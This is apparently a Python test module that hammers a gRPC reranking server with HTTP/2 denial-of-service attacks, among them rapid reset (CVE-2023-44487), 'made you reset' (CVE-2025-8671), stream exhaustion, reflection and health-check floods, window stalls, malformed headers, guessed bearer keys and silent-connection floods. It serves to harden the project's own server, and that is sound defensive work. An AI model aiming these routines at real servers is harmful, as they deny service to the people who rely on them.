"""Streams of HTTP/2: opened and reset, opened and ended by the server, or opened and left."""

import random
from collections.abc import Callable, Iterator

from rerank.v2 import rerank_pb2 as pb

from tests.hostile.attack import Target, attack
from tests.hostile.crowd import silent
from tests.hostile.honest import MODEL
from tests.hostile.peer import (
    DATA,
    HEADERS,
    LAST,
    PREFACE,
    WHOLE,
    WINDOW,
    Peer,
    again,
    fields,
    literal,
    prefixed,
    reset,
)
from tests.soak.http2 import frame

_AT_ONCE = 50
_QUESTION = prefixed(pb.RerankRequest(model=MODEL, query="q", documents=["d"] * 3).SerializeToString())
_CALLERS = 100


def _calls(target: Target, call: Callable[[int], bytes]) -> int:
    """Send calls without end, as fast as they are taken."""

    def frames(peer: Peer) -> Iterator[None]:
        while True:
            piece = b""
            for _ in range(_AT_ONCE):
                peer.streams += 2
                piece += call(peer.streams)
            peer.send(piece)
            yield

    return again(target, frames)


def _head(stream: int) -> bytes:
    return frame(HEADERS, WHOLE, stream, fields())


def _whole(stream: int, message: bytes = _QUESTION, **more: str) -> bytes:
    return frame(HEADERS, WHOLE, stream, fields(**more)) + frame(DATA, LAST, stream, message)


@attack()
def rapid_reset(target: Target) -> int:
    """Open calls and reset each at once, CVE-2023-44487."""
    return _calls(target, lambda n: _head(n) + reset(n))


@attack(keyed=True)
def rapid_reset_without_a_key(target: Target) -> int:
    """Open calls and reset each at once, where a key is asked for."""
    return _calls(target, lambda n: _head(n) + reset(n))


@attack()
def rapid_reset_of_whole_calls(target: Target) -> int:
    """Send calls with their messages and reset each at once."""
    return _calls(target, lambda n: _whole(n) + reset(n))


@attack()
def made_you_reset(target: Target) -> int:
    """Send calls, and then a frame for each that makes the server reset it, CVE-2025-8671."""
    return _calls(target, lambda n: _whole(n) + frame(WINDOW, 0, n, bytes(4)))


@attack()
def made_you_reset_by_data(target: Target) -> int:
    """Send calls that are ended, and then more of their messages, so that the server resets them."""
    return _calls(target, lambda n: _whole(n) + frame(DATA, LAST, n, b"more"))


@attack()
def reset_by_errors(target: Target) -> int:
    """Send calls whose headers are wrong, so that the server resets them."""
    wrong = literal(":status", "200") + fields() + literal("Upper", "case")
    return _calls(target, lambda n: frame(HEADERS, WHOLE, n, wrong))


@attack()
def stream_limit_churn(target: Target) -> int:
    """Keep as many half-open calls as the server lets, and replace them without end."""

    def frames(peer: Peer) -> Iterator[None]:
        while True:
            first = peer.streams + 2
            for _ in range(1000):
                peer.open(fields())
            yield
            peer.send(b"".join(map(reset, range(first, peer.streams + 1, 2))))

    return again(target, frames)


@attack()
def more_streams_than_allowed(target: Target) -> int:
    """Open 20,000 calls on a connection and leave them open."""

    def frames(peer: Peer) -> Iterator[None]:
        for _ in range(20_000):
            peer.open(fields())
            yield
        while True:
            peer.read(0.1)

    return again(target, frames)


@attack()
def unknown_methods(target: Target) -> int:
    """Call methods that no service has."""
    return _calls(target, lambda n: _whole(n, path=f"/rerank.v2.RerankService/M{n}"))


@attack()
def content_types(target: Target) -> int:
    """Send calls of another content type."""
    return _calls(target, lambda n: _whole(n, content_type="text/plain"))


@attack()
def other_http_methods(target: Target) -> int:
    """Send GET requests, which no call is."""
    get = literal(":method", "GET") + literal(":scheme", "http") + literal(":path", "/") + literal(":authority", "x")
    return _calls(target, lambda n: frame(HEADERS, WHOLE | LAST, n, get))


@attack()
def undecodable_calls(target: Target) -> int:
    """Send small messages that are none."""
    return _calls(target, lambda n: _whole(n, prefixed(b"\x1a\xff\xff")))


@attack()
def malformed_timeouts(target: Target) -> int:
    """Send timeouts that are none."""
    return _calls(target, lambda n: _whole(n, grpc_timeout="soon"))


@attack()
def one_millisecond(target: Target) -> int:
    """Send calls with deadlines that nobody can keep."""
    return _calls(target, lambda n: _whole(n, grpc_timeout="1m"))


@attack(keyed=True)
def wrong_keys(target: Target) -> int:
    """Send calls with keys that are none."""
    return _calls(target, lambda n: _whole(n, authorization=f"Bearer guess-{n}"))


@attack()
def health_flood(target: Target) -> int:
    """Ask for the health without end."""
    return _calls(target, lambda n: _whole(n, prefixed(b""), path="/grpc.health.v1.Health/Check"))


@attack()
def health_watchers(target: Target) -> int:
    """Watch the health in ever more calls."""
    return _calls(target, lambda n: _whole(n, prefixed(b""), path="/grpc.health.v1.Health/Watch"))


@attack()
def reflection_flood(target: Target) -> int:
    """Ask for the descriptor of the largest file without end."""
    asked = prefixed(b"\x22\x17rerank.v2.RerankService")  # file_containing_symbol
    path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
    return _calls(target, lambda n: _whole(n, asked, path=path))


@attack()
def list_models_flood(target: Target) -> int:
    """Ask for the models without end."""
    return _calls(target, lambda n: _whole(n, prefixed(b""), path="/rerank.v2.RerankService/ListModels"))


@attack()
def last_lane_flood(target: Target) -> int:
    """Send whole calls of the last lane without end."""
    return _calls(target, lambda n: _whole(n, x_priority="999"))


@attack()
def unread_answers(target: Target) -> int:
    """Ask for the descriptor again and again on one call, and read nothing."""
    asked = prefixed(b"\x22\x17rerank.v2.RerankService") * 100
    path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

    def calls(peer: Peer) -> Iterator[None]:
        streams = [peer.open(fields(path)) for _ in range(_AT_ONCE)]
        while True:
            peer.pour({stream: memoryview(asked) for stream in streams if stream not in peer.ended}, last=False)
            yield

    return again(target, calls, window=0)


@attack()
def callers_that_cancel(target: Target) -> int:
    """Be a hundred callers, each with a connection, that cancel their calls after 0 to 50 ms."""
    peers: list[Peer] = []
    done = 0
    rng = random.Random(1)
    try:
        while target.on():
            try:
                if len(peers) < _CALLERS:
                    peers.append(Peer(target))
                peer = peers.pop(rng.randrange(len(peers)))
                stream = peer.call(fields(), _QUESTION)
                peer.read(rng.uniform(0, 0.05) / _CALLERS)
                peer.send(reset(stream))
                peers.append(peer)
                done += 1
            except OSError:  # It was closed, and makes room for another.
                continue
    finally:
        for peer in peers:
            peer.__exit__()
    return done


@attack()
def preface_then_silence(target: Target) -> int:
    """Open a thousand connections, say HTTP/2 and nothing else."""
    return silent(target, target.grpc, PREFACE, 1000)


@attack()
def silent_connections_of_grpc(target: Target) -> int:
    """Open a thousand connections and say nothing."""
    return silent(target, target.grpc, b"", 1000)
